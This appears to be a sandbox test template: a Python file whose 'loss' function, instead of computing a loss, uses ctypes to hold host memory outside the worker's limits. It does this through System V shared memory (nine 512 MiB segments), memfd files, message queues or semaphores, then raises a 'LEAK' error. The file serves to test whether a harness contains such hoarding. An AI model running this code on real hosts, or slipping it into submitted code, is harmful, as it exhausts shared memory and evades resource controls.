"""Threat: hold host memory that outlives the worker and belongs to no process, through System V
shared memory, message queues, semaphores, POSIX message queues or memfd (variant @VARIANT@).
The System V form is the reported one: 9 x 512 MiB segments attached, filled and detached."""

import ctypes
import os

IPC_PRIVATE, IPC_CREAT = 0, 0o1000
VARIANT = "@VARIANT@"


def _shm(libc):
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(9):
        sid = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(512 << 20), IPC_CREAT | 0o600)
        if sid < 0:
            raise RuntimeError(f"shmget refused (errno {ctypes.get_errno()})")
        addr = libc.shmat(sid, None, 0)
        ctypes.memset(addr, 0xA5, 512 << 20)
        libc.shmdt(ctypes.c_void_p(addr))


def _msg(libc):
    qid = libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
    raise RuntimeError(f"msgget returned {qid} (errno {ctypes.get_errno()})")


def _sem(libc):
    sid = libc.semget(IPC_PRIVATE, 1, IPC_CREAT | 0o600)
    raise RuntimeError(f"semget returned {sid} (errno {ctypes.get_errno()})")


def _mq(libc):
    fd = libc.mq_open(b"/hoard", os.O_CREAT | os.O_RDWR, 0o600, None)
    raise RuntimeError(f"mq_open returned {fd} (errno {ctypes.get_errno()})")


def _memfd(libc):
    fds = []
    for _ in range(200):  # 16 MiB each (RLIMIT_FSIZE) x 200 = 3.2 GiB outside the address space
        fd = os.memfd_create("hoard")
        os.write(fd, b"\xa5" * (16 << 20))
        fds.append(fd)


def loss(policy_chosen_logps, policy_rejected_logps):
    libc = ctypes.CDLL(None, use_errno=True)  # the interpreter's own libc (find_library would exec ldconfig)
    {"shm": _shm, "msg": _msg, "sem": _sem, "mq": _mq, "memfd": _memfd}[VARIANT](libc)
    raise RuntimeError(f"LEAK: the {VARIANT} route held memory outside the limits")
